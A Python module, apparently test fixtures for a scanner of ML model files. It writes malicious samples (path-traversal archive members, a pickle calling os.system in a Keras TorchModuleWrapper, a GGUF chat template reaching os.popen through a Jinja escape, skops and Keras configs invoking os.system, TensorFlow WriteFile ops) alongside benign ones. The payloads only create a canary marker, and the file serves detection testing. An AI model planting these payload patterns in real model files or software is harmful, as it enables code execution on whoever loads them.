"""Corpus samples of the newer formats and archive tricks (issue 15), malicious and benign.

Malicious: every member of an archive named ``../x`` (zip, tar.gz, 7z), links out of an archive,
a Keras ``TorchModuleWrapper`` carrying a pickle (CVE-2025-49655), Keras configs naming
``get_file`` or ``os``, TensorFlow graphs writing a file, GGUF chat-template injection
(CVE-2024-34359), skops schemas naming ``exec``, TFLite Flex file ops. Each payload would only
create the canary marker. Benign: real files of the same formats (a real Keras model wrapping a
``torch.nn.Linear``) or files laid out from the format's documentation where the library is not
installed (see ``format_writers`` and ``tf_protos``).
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .benign import BenignSample
from .canary import Canary, Reduce
from .containers import ContainerSample
from .format_writers import (
    CHATML,
    LIGHTGBM,
    WITH_TOOLS,
    XGBOOST_JSON,
    base_metadata,
    gguf_file,
    json_value,
    logistic_regression,
    seven_zip_with_name,
    skops_file,
    skops_node,
    tar_bytes,
    tflite,
    ubjson,
    zip_with_link,
)
from .payloads import inner_payload
from .tf_protos import DENSE, benign_model, keras_metadata, lambda_layer, saved_model, tf_node

TRAVERSAL = "MODEL-ARCHIVE-PATH-TRAVERSAL"
KERAS_ZIP_META = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-12-07@00:00:00"})


def _zip_traversal(path: Path, canary: Canary) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model/config.json", "{}")
        archive.writestr(zipfile.ZipInfo("../../model/weights.pkl"), inner_payload(canary))


def _tar_traversal(path: Path, canary: Canary) -> None:
    path.write_bytes(gzip.compress(tar_bytes([("model/config.json", b"{}"),
                                              ("model/../../weights.pkl",
                                               inner_payload(canary))])))


def _seven_zip_traversal(path: Path, canary: Canary) -> None:
    path.write_bytes(seven_zip_with_name({"xx/weights.pkl": inner_payload(canary),
                                          "config.json": b"{}"},
                                         {"xx/weights.pkl": "../weights.pkl"}))


def _zip_symlink(path: Path, canary: Canary) -> None:
    zip_with_link(path, "weights/link", str(canary.marker))


def _keras_zip(path: Path, layers: list[dict[str, Any]]) -> None:
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "sequential", "layers": [
                  {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                   "config": {"batch_shape": [None, 4], "name": "input_layer"}}, *layers]}}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", KERAS_ZIP_META)
        archive.writestr("config.json", json.dumps(config))


def _torch_wrapper_layer(module: bytes) -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
            "config": {"name": "torch_module_wrapper", "trainable": True,
                       "module": base64.b64encode(module).decode(), "output_shape": [None, 2]}}


def _keras_torch_wrapper(path: Path, canary: Canary) -> None:
    import torch

    buffer = io.BytesIO()
    torch.save(Reduce(os.system, canary.shell), buffer)
    _keras_zip(path, [_torch_wrapper_layer(buffer.getvalue())])


def _keras_get_file(path: Path, canary: Canary) -> None:
    _keras_zip(path, [{"module": "keras.utils", "class_name": "function",
                       "config": "get_file", "registered_name": "function"}])


def _keras_module_os(path: Path, canary: Canary) -> None:
    _keras_zip(path, [{"module": "os", "class_name": "system", "registered_name": None,
                       "config": {"command": canary.shell}}])


def _savedmodel_write_file(path: Path, canary: Canary) -> None:
    hostile = [tf_node("marker", "Const", value=str(canary.marker).encode()),
               tf_node("probe", "WriteFile")]
    path.write_bytes(saved_model(benign_model(), {"__inference_serve_7":
                                                  benign_model() + hostile}))


def _keras_metadata_lambda(path: Path, canary: Canary) -> None:
    path.write_bytes(keras_metadata([DENSE, lambda_layer(canary)]))


def _gguf_template(path: Path, canary: Canary) -> None:
    probe = "{{ lipsum.__globals__['os'].popen('" + canary.shell + "').read() }}"
    path.write_bytes(gguf_file(base_metadata(CHATML + probe)))


def _skops_partial(path: Path, canary: Canary) -> None:
    hook = skops_node("functools", "partial", "PartialNode", {
        "func": skops_node("builtins", "function", "FunctionNode",
                           {"module_path": "os", "function": "system"}),
        "args": skops_node("builtins", "tuple", "TupleNode", [json_value(canary.shell)])})
    skops_file(path, logistic_regression({"hook": hook}))


def _tflite_flex_write(path: Path, canary: Canary) -> None:
    path.write_bytes(tflite([0, 9], ["FlexWriteFile"]))


FORMAT_CONTAINERS: list[ContainerSample] = [
    ContainerSample("zip-traversal-member", "payload in a zip member named ../../x",
                    "model.zip", _zip_traversal, also_rules=(TRAVERSAL,)),
    ContainerSample("tar-gz-traversal-member", "payload in a .tar.gz member named ../x",
                    "model.tar.gz", _tar_traversal, also_rules=(TRAVERSAL,)),
    ContainerSample("sevenzip-traversal-member", "payload in a 7z member named ../x (py7zr "
                    "refuses the name)", "model.7z", _seven_zip_traversal,
                    also_rules=(TRAVERSAL,)),
    ContainerSample("zip-symlink-outside", "zip entry that is a symlink to an absolute path",
                    "model.zip", _zip_symlink, rules=("MODEL-ARCHIVE-SYMLINK",),
                    severity="high"),
    ContainerSample("keras-torch-module-wrapper-payload", "TorchModuleWrapper whose module is a "
                    "payload pickle (CVE-2025-49655)", "model.keras", _keras_torch_wrapper,
                    also_rules=("MODEL-KERAS-TORCH-MODULE",)),
    ContainerSample("keras-get-file", "Keras config naming keras.utils.get_file",
                    "model.keras", _keras_get_file, rules=("MODEL-KERAS-UNSAFE-API",),
                    severity="high"),
    ContainerSample("keras-module-os", "Keras layer whose module is os, class system",
                    "model.keras", _keras_module_os, rules=("MODEL-KERAS-CUSTOM-OBJECT",)),
    ContainerSample("tf-savedmodel-write-file", "SavedModel function with a WriteFile op",
                    "saved_model.pb", _savedmodel_write_file, rules=("MODEL-TF-DANGEROUS-OP",),
                    severity="high"),
    ContainerSample("keras-metadata-lambda", "TF-Keras keras_metadata.pb with a Lambda layer",
                    "keras_metadata.pb", _keras_metadata_lambda, rules=("MODEL-KERAS-LAMBDA",),
                    severity="high"),
    ContainerSample("gguf-chat-template-injection", "GGUF chat template reaching os.popen "
                    "(CVE-2024-34359)", "model.gguf", _gguf_template,
                    rules=("MODEL-GGUF-TEMPLATE",)),
    ContainerSample("skops-partial-os-system", "skops schema: functools.partial(os.system)",
                    "model.skops", _skops_partial, rules=("MODEL-SKOPS-UNTRUSTED-TYPE",)),
    ContainerSample("tflite-flex-write-file", "TFLite model with the FlexWriteFile op",
                    "model.tflite", _tflite_flex_write, rules=("MODEL-TF-DANGEROUS-OP",),
                    severity="high"),
]


def _real_keras_torch_wrapper(path: Path) -> None:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras
    import torch
    from keras.layers import TorchModuleWrapper

    model = keras.Sequential([keras.Input((4,)), TorchModuleWrapper(
        torch.nn.Linear(4, 2), output_shape=(None, 2)), keras.layers.Dense(1)])
    model.save(path)


def _bytes(build: Callable[[], bytes]) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(build())


def _tar_gz_model() -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.arange(12, dtype=np.float32))
    return gzip.compress(tar_bytes([("model/weights.npy", buffer.getvalue()),
                                    ("model/config.json", b'{"layers": 2}')]))


FORMAT_BENIGN: list[BenignSample] = [
    BenignSample("tar-gz-model", ".tar.gz of a .npy and a config", "model.tar.gz",
                 _bytes(_tar_gz_model)),
    BenignSample("keras-torch-module-wrapper-real", "real Keras model wrapping torch.nn.Linear",
                 "wrapper.keras", _real_keras_torch_wrapper,
                 medium_allowed=("MODEL-KERAS-TORCH-MODULE", "MODEL-PICKLE-UNKNOWN-GLOBAL")),
    BenignSample("tf-savedmodel", "SavedModel graph and functions of ordinary ops",
                 "saved_model.pb", _bytes(lambda: saved_model(
                     benign_model(), {"__inference_call_42": benign_model()}))),
    BenignSample("keras-metadata", "TF-Keras keras_metadata.pb of Dense layers",
                 "keras_metadata.pb", _bytes(lambda: keras_metadata([DENSE, DENSE]))),
    BenignSample("gguf-chatml", "GGUF with a ChatML template", "chatml.gguf",
                 _bytes(lambda: gguf_file(base_metadata(CHATML), tensors=2))),
    BenignSample("gguf-tools-template", "GGUF with a template using namespace/raise_exception",
                 "tools.gguf", _bytes(lambda: gguf_file(base_metadata(WITH_TOOLS)))),
    BenignSample("skops-logreg", "skops schema of a LogisticRegression", "logreg.skops",
                 lambda path: skops_file(path, logistic_regression()) and None),
    BenignSample("xgboost-json", "XGBoost JSON model", "model.json",
                 _bytes(lambda: json.dumps(XGBOOST_JSON).encode())),
    BenignSample("xgboost-ubj", "XGBoost UBJSON model", "model.ubj",
                 _bytes(lambda: ubjson(XGBOOST_JSON))),
    BenignSample("lightgbm-text", "LightGBM text model", "model.txt",
                 _bytes(lambda: LIGHTGBM.encode())),
    BenignSample("tflite-builtin", "TFLite model of built-in ops", "model.tflite",
                 _bytes(lambda: tflite([0, 3, 9, 22, 25], []))),
]
